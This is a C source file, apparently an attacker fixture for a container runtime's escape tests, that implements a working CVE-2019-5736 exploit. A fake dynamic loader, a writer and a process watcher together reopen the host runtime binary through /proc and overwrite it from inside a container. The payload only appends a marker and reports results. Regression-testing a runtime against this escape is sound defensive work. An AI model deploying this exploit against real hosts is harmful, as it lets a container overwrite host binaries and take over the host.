/* CVE-2019-5736 attacker, compiled static by test_escapes.sh (never part of berth).
 *
 * -DLDSO (installed as the image's /lib64/ld-linux-x86-64.so.2): runs whenever a
 *   dynamically linked host binary is exec'd inside the container, e.g. the runtime
 *   itself through a `#!/proc/self/exe` script. It opens /proc/self/exe (the host
 *   binary) read-only, hands the fd to a child that execs `/evil-writer FD` and
 *   execs `sleep 6` itself, so that nothing executes the binary any more (no ETXTBSY).
 * -DWRITER: `evil-writer FD`: reopens /proc/self/fd/FD for writing (retrying ETXTBSY
 *   for 4 s) and appends a marker; reports to /shared/result.
 * -DWATCH: `evil-watch SECONDS`: opens /proc/<pid>/exe of every new process in the
 *   pid namespace whose exe is neither busybox nor itself, kills it and runs the writer
 *   on that fd; reports to /shared/result. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/syscall.h>
#ifndef LDSO
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void report(const char *fmt, const char *what, int err) {
  int fd = open("/shared/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd < 0) return;
  char buf[256];
  int n = snprintf(buf, sizeof buf, fmt, what, strerror(err));
  if (n > 0) (void)!write(fd, buf, (size_t)n);
  close(fd);
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* 1 if the write went through. */
__attribute__((unused)) static int try_write(int fd) {
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  double end = now() + 4;
  for (;;) {
    int w = open(p, O_WRONLY | O_APPEND);
    if (w >= 0) {
      ssize_t n = write(w, "\nPWNED-BY-CONTAINER\n", 20);
      int err = errno;
      close(w);
      if (n == 20) {
        report("write=ok %s%s\n", "", 0);
        return 1;
      }
      report("write=fail (write: %s: %s)\n", "", err);
      return 0;
    }
    if (errno != ETXTBSY || now() > end) {
      report("write=fail (open %s: %s)\n", p, errno);
      return 0;
    }
    usleep(2000);
  }
}
#endif

#if defined(LDSO)
/* Freestanding: the kernel starts an interpreter with the auxiliary vector of the
 * program it loads (the runtime), which a static libc's start-up code would misread. */
static long sys(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
static void say(const char *m, long len) {
  long fd = sys(SYS_open, (long)"/shared/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd >= 0) {
    sys(SYS_write, fd, (long)m, len);
    sys(SYS_close, fd, 0, 0);
  }
}
__attribute__((used)) static void ldso_main(void) {
  long fd = sys(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
  if (fd < 0) {
    say("open-exe=fail\n", 14);
    sys(SYS_exit_group, 1, 0, 0);
  }
  say("open-exe=ok\n", 12);
  sys(SYS_dup2, fd, 10, 0);
  if (sys(SYS_fork, 0, 0, 0) == 0) {
    sys(SYS_setsid, 0, 0, 0);
    char *argv[] = {"evil-writer", "10", 0};
    char *envp[] = {0};
    sys(SYS_execve, (long)"/evil-writer", (long)argv, (long)envp);
    sys(SYS_exit_group, 127, 0, 0);
  }
  /* Stop running the binary (ETXTBSY) but stay: as the container's pid 1, exiting would
   * take the writer with it. */
  char *sleep_argv[] = {"sleep", "6", 0};
  char *envp[] = {0};
  sys(SYS_execve, (long)"/bin/busybox", (long)sleep_argv, (long)envp);
  sys(SYS_exit_group, 0, 0, 0);
}
__asm__(".globl _start\n_start:\n and $-16, %rsp\n call ldso_main\n hlt\n");
#elif defined(WRITER)
int main(int argc, char **argv) {
  if (argc < 2) return 2;
  return try_write(atoi(argv[1])) ? 0 : 1;
}
#elif defined(WATCH)
int main(int argc, char **argv) {
  double end = now() + (argc > 1 ? atof(argv[1]) : 10);
  struct stat self, bb;
  stat("/proc/self/exe", &self);
  stat("/bin/busybox", &bb);
  char seen[65536] = {0};
  while (now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 1;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid >= 65536 || seen[pid] || pid == getpid()) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      int fd = open(p, O_RDONLY);
      if (fd < 0) continue; /* not dumpable (yet), or gone: look again */
      struct stat st;
      if (fstat(fd, &st) < 0 || (st.st_ino == self.st_ino && st.st_dev == self.st_dev) ||
          (st.st_ino == bb.st_ino && st.st_dev == bb.st_dev)) {
        close(fd);
        seen[pid] = 1;
        continue;
      }
      seen[pid] = 1;
      report("open-exe=ok %s%s\n", p, 0);
      kill(pid, SIGKILL);
      int r = try_write(fd);
      closedir(d);
      return r ? 0 : 1;
    }
    closedir(d);
  }
  report("open-exe=none %s%s\n", "", 0);
  return 1;
}
#else
#error "build with -DLDSO, -DWRITER or -DWATCH"
#endif
